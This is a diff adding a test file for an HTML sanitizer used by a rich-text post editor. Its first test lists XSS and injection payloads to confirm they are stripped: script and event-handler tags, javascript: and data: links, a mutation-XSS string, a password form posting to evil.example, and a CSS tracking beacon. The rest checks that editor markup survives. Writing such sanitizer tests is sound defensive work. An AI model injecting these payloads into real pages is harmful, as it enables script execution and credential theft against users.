@@ -1,0 +1,93 @@
+import { sanitizePost } from './sanitize-post';
+
+function sanitized(html: string): HTMLElement {
+  const container = document.createElement('div');
+  container.append(sanitizePost(html));
+  return container;
+}
+
+it.each([
+  '<script>alert(1)</script>',
+  '<img src="x" onerror="alert(1)">',
+  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe src="https://www.youtube.com.evil.example/embed/abcdef"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<p style="background-image:url(https://evil.example/track)">x</p>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<style>body{display:none}</style>',
+  '<object data="x"></object><embed src="x"><base href="//evil.example"><meta http-equiv="refresh">',
+])('leaves nothing dangerous of %s', (html) => {
+  const result = sanitized(html);
+  expect(
+    result.querySelector('script, style, svg, math, iframe, form, input, object, embed, base, meta'),
+  ).toBeNull();
+  for (const element of result.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^srcdoc$/);
+      expect(value).not.toMatch(/script:|data:|url\(|position|evil/i);
+    }
+  }
+});
+
+it('keeps what the editor writes', () => {
+  const html =
+    '<p class="ql-align-center">a<strong>b</strong><em>c</em><u>d</u><s>e</s><sub>f</sub><sup>g</sup></p>' +
+    '<ul><li>one<ol><li>two</li></ol></li></ul><blockquote>quote</blockquote>' +
+    '<p class="ql-indent-3"><span class="ql-size-huge ql-font-serif">big</span></p>';
+  expect(sanitized(html).innerHTML).toBe(html);
+});
+
+it('drops class names that are not the editor’s', () => {
+  expect(sanitized('<p class="ql-indent-9 header ql-align-right">x</p>').innerHTML).toBe(
+    '<p class="ql-align-right">x</p>',
+  );
+});
+
+it('drops the editor’s own furniture', () => {
+  expect(
+    sanitized('<ul><li><span class="ql-ui" contenteditable="false">•</span>x</li></ul>').textContent,
+  ).toBe('x');
+});
+
+it('keeps colours and no other style', () => {
+  const span = sanitized(
+    '<span style="color: red; background-color: #fff1a8; font-size: 90px">x</span>',
+  ).querySelector('span');
+  expect(span?.style.getPropertyValue('--ink')).toBe('red');
+  expect(span?.style.backgroundColor).toBe('rgb(255, 241, 168)');
+  expect(span?.style.fontSize).toBe('');
+});
+
+it('leaves text alone that looks like a style', () => {
+  const html = '<p>write &lt;p style="color: red"&gt; or style=x</p>';
+  expect(sanitized(html).innerHTML).toBe(html);
+});
+
+it('opens links elsewhere without vouching for them', () => {
+  const link = sanitized('<a href="https://example.org/" rel="follow" target="_top">x</a>').querySelector(
+    'a',
+  );
+  expect(link).toHaveAttribute('rel', 'noopener nofollow ugc');
+  expect(link).toHaveAttribute('target', '_blank');
+});
+
+it('shows videos of known hosts, late and with a name', () => {
+  const video = sanitized(
+    '<iframe class="ql-video" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
+  ).querySelector('iframe');
+  expect(video).toHaveAttribute('loading', 'lazy');
+  expect(video).toHaveAttribute('title', 'Embedded video');
+});
+
+it('puts headings below the title of the post', () => {
+  const levels = [...sanitized('<h1>a</h1><h3>b</h3><h6>c</h6>').children].map((heading) =>
+    heading.getAttribute('aria-level'),
+  );
+  expect(levels).toEqual(['2', '4', '6']);
+});
